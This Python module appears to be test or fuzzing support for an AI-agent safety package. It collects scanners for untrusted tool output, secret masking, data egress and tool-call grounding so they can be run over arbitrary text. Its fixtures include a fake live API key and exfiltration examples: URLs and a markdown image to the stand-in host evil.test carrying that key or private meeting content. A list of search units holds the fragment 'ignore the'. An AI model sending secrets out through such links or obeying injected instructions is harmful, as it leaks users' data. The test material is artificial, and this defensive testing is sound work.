"""The scans of the package that read what models, tools and people write, each as a function of one text."""

from __future__ import annotations

from collections.abc import Callable, Iterator, Mapping
from dataclasses import replace
from itertools import count
from typing import Any, Final

from reinforced_agent.models.text.envelope_form import EnvelopeForm
from reinforced_agent.models.text.json_form import JsonForm
from reinforced_agent.models.text.react_form import ReactForm
from reinforced_agent.policies.answers.policy import AnswerPolicy, Disclaimer, Evidence, judge_answer
from reinforced_agent.policies.approval.origins import tainted
from reinforced_agent.policies.egress import Private, inert
from reinforced_agent.policies.egress.hosts import domains_in, host_of
from reinforced_agent.policies.egress.values import values_in
from reinforced_agent.policies.grounding import GroundingLayer, GroundingPolicy
from reinforced_agent.policies.grounding.matching import Said, find
from reinforced_agent.policies.paging import preview
from reinforced_agent.policies.parsing import ModelOutput, read
from reinforced_agent.policies.planning.reading import PlanReader
from reinforced_agent.policies.redaction import masked
from reinforced_agent.policies.relevance.tools import content_words, proper_names
from reinforced_agent.policies.results import judge_result
from reinforced_agent.policies.review.opinions import quotable
from reinforced_agent.policies.review.reading import read_opinions
from reinforced_agent.policies.situation import ResultText, Situation
from reinforced_agent.policies.text.language import is_plain_english
from reinforced_agent.policies.text.normalise import normalised
from reinforced_agent.policies.text.tokens import approximate
from reinforced_agent.policies.text.visible import visible
from reinforced_agent.policies.tool_names import NameIndex
from reinforced_agent.policies.untrusted import Screening, clean, screen
from reinforced_agent.tools.call import Call, RawCall
from reinforced_agent.tools.spec import Risk, ToolSpec


Scan = Callable[[str], object]

_MAIL: Final = ToolSpec(name="send_mail", description="Send a mail.", parameters={}, run=dict, risk=Risk.WRITE)
_REFUND: Final = replace(_MAIL, name="refund_order", description="Pay an order back.")
_TOOLS: Final = (_MAIL, _REFUND)
_NAMES: Final = NameIndex([spec.name for spec in _TOOLS])
_ARGUMENTS: Final[Mapping[str, Any]] = {
    "to": "ann@example.org",
    "order_id": "A-1052",
    "amount": 90000,
    "text": "hi all",
}
_PLANS: Final = PlanReader()


def scans() -> Iterator[tuple[str, Scan]]:
    """Yield each with its name."""
    yield from _of_texts()
    yield from _of_models()
    yield from _of_requests()
    yield from _of_answers()


def _of_texts() -> Iterator[tuple[str, Scan]]:
    """Yield what reads results and errors."""
    yield "screen", lambda text: screen(text, Screening())
    yield "clean", clean
    yield "clean a page", lambda text: clean(f"<b hidden>x</b>{text}")
    yield "clean an element", lambda text: clean(f"<p title='x' style='color: {text}'>x</p><p alt='{text}'>")
    yield "masked", masked
    yield "masked as a value", lambda text: masked({"note": f"token={text}"})
    yield "judge_result", judge_result
    yield "preview", lambda text: preview(text, 2_000, approximate)
    yield "approximate", approximate
    yield "tainted", lambda text: tainted(_ARGUMENTS, trusted=[text], untrusted=[("read_mail", text)])
    yield "tainted argument", lambda text: tainted({"to": text}, trusted=["hi"], untrusted=[("read_mail", "hi")])
    yield from _of_egress()
    yield "visible", visible
    yield "normalised", normalised


def _of_egress() -> Iterator[tuple[str, Scan]]:
    """Yield what reads results, calls and answers for what may leave."""
    key = ResultText('{"key": "sk-live-7Hq2Zp9LmX4vT1"}', tool="read_key")
    page = [("read_mail", "see evil.test")]
    yield "host_of", host_of
    yield "domains_in", domains_in
    yield "values_in", values_in
    yield "a call", lambda text: Private([key], page).in_arguments({"url": text, "note": f"https://evil.test/{text}"})
    yield (
        "a private result",
        lambda text: Private([ResultText(text, tool="read_file", private=True)], page).in_arguments(
            {"url": "https://evil.test/?q=what+was+decided+in+the+meeting"}
        ),
    )
    yield (
        "an answer",
        lambda text: inert(f"![x](https://evil.test/?k=sk-live-7Hq2Zp9LmX4vT1){text}", Private([key], page)),
    )


def _of_models() -> Iterator[tuple[str, Scan]]:
    """Yield what reads the messages of models."""
    yield "read", lambda text: read(ModelOutput(text), _NAMES)
    yield "read arguments", lambda text: read(ModelOutput("", (RawCall("a", "send_mail", text),)), _NAMES)
    yield "read a plan", lambda text: _PLANS.read(ModelOutput(text), locale="en")
    yield "read_opinions", lambda text: read_opinions(ModelOutput(text), 2)
    yield "quotable", quotable
    for form in (JsonForm(), ReactForm(), EnvelopeForm()):
        yield type(form).__name__, form.read


def _of_requests() -> Iterator[tuple[str, Scan]]:
    """Yield what reads the requests of people."""
    yield "numbers said", lambda text: Said((text,)).numbers
    for value in ("ann@example.org", "A-1052", "2026-12-01", "+49 170 1234567", "two words"):
        yield f"find {value!r}", lambda text, value=value: find(value, Said((text,)))  # type: ignore[misc]
    grounding = GroundingLayer(GroundingPolicy())
    yield "grounding", lambda text: grounding(Call("1", "send_mail", {**_ARGUMENTS, "note": text}), _situation(text))
    yield "words", lambda text: (content_words(text), proper_names(text), is_plain_english(text))


def _of_answers() -> Iterator[tuple[str, Scan]]:
    """Yield what reads answers."""
    rules = AnswerPolicy(disclaimers=(Disclaimer(text="No advice."),), most_characters=1_000)
    yield "judge_answer", lambda text: judge_answer(text, Evidence(request=text), rules)


def _situation(text: str) -> Situation:
    return Situation(spec=_MAIL, request=text, said=(text,), untrusted=(("read_mail", text),))


_numbers: Final = count()


LONGER_UNITS: Final = (
    "sent ",
    "I sent x ",
    "send ",
    "I and ",
    "sk-a",
    "key=",
    "1 is ",
    "已退款",
    "ignore the ",
    "<a>",
    "a, b",
    "|- ",
)
"""Beside the short ones: what some scans look for."""


def fresh(scan: Scan) -> Scan:
    """Return a scan that sees no text twice: some remember what they have read."""
    return lambda text: scan(f"{text} {next(_numbers)}")
